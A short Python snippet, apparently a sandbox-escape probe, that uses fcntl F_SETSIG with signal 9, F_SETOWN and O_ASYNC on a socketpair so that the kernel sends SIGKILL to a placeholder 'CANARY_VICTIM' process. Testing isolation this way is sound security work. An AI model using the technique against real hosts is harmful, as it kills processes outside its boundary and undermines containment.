# makes the kernel signal a host process when a pipe is ready
import fcntl, os, socket
r, w = socket.socketpair()
fcntl.fcntl(r, 10, 9)
fcntl.fcntl(r, fcntl.F_SETOWN, CANARY_VICTIM)
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
w.send(b'x')
import time
time.sleep(0.1)
